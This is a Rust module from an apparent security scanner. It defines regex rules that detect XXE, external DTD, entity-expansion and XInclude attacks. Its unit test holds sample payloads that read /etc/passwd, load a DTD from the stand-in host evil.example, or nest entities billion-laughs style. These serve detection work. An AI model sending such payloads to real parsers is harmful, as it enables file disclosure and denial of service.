//! XML external entities and XInclude.
//!
//! - `xxe.external_entity`: an entity declared with `SYSTEM` or `PUBLIC`, general or
//!   parameter (`<!ENTITY % x SYSTEM "http://...">`).
//! - `xxe.external_dtd`: a document type that loads an external DTD.
//! - `xxe.entity_declaration`: a document type whose internal subset declares entities,
//!   as entity expansion attacks ("billion laughs") do.
//! - `xxe.xinclude`: an XInclude element or namespace.

use regex::bytes::Regex;

use crate::rules::ascii_regex;

use crate::finding::Confidence;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct XxeMatch {
    pub rule_id: &'static str,
    pub confidence: Confidence,
    pub at: usize,
}

pub struct XxeRules {
    external_entity: Regex,
    external_dtd: Regex,
    entity_declaration: Regex,
    xinclude: Regex,
}

impl XxeRules {
    pub fn new() -> Self {
        Self {
            external_entity: ascii_regex(r#"(?i)<!ENTITY\s+(?:%\s*)?[^\s>]+\s+(?:SYSTEM|PUBLIC)\b"#)
                .expect("the external entity pattern is valid"),
            external_dtd: ascii_regex(r#"(?i)<!DOCTYPE\s+[^\s>\[]+\s+(?:SYSTEM|PUBLIC)\s+["']"#)
                .expect("the external DTD pattern is valid"),
            entity_declaration: ascii_regex(r"(?i)<!DOCTYPE[^>\[]{0,256}\[[^\]]{0,4096}?<!ENTITY").expect("the entity pattern is valid"),
            xinclude: ascii_regex(r#"(?i)<[\w.-]*:?include\s[^>]*\bhref\s*=|xmlns(?::[\w.-]+)?\s*=\s*["']https?://www\.w3\.org/2001/XInclude"#)
                .expect("the XInclude pattern is valid"),
        }
    }

    pub fn detect(&self, text: &str) -> Option<XxeMatch> {
        let checks: [(&Regex, &'static str, Confidence); 4] = [
            (&self.external_entity, "xxe.external_entity", Confidence::High),
            (&self.external_dtd, "xxe.external_dtd", Confidence::High),
            (&self.xinclude, "xxe.xinclude", Confidence::High),
            (&self.entity_declaration, "xxe.entity_declaration", Confidence::Medium),
        ];
        checks.into_iter().find_map(|(regex, rule_id, confidence)| {
            regex.find(text.as_bytes()).map(|found| XxeMatch { rule_id, confidence, at: found.start() })
        })
    }
}

impl Default for XxeRules {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn xxe_cases() {
        let rules = XxeRules::new();
        let attacks = [
            (
                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
                "xxe.external_entity",
            ),
            (r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>"#, "xxe.external_entity"),
            (r#"<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>"#, "xxe.external_dtd"),
            (
                r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>"#,
                "xxe.entity_declaration",
            ),
            (
                r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
                "xxe.xinclude",
            ),
        ];
        for (input, rule) in attacks {
            assert_eq!(rules.detect(input).map(|m| m.rule_id), Some(rule), "input {input:?}");
        }
        for input in
            ["<!DOCTYPE html><html></html>", "<?xml version=\"1.0\"?><order><id>1</id></order>", "ENTITY SYSTEM"]
        {
            assert_eq!(rules.detect(input), None, "input {input:?}");
        }
    }
}
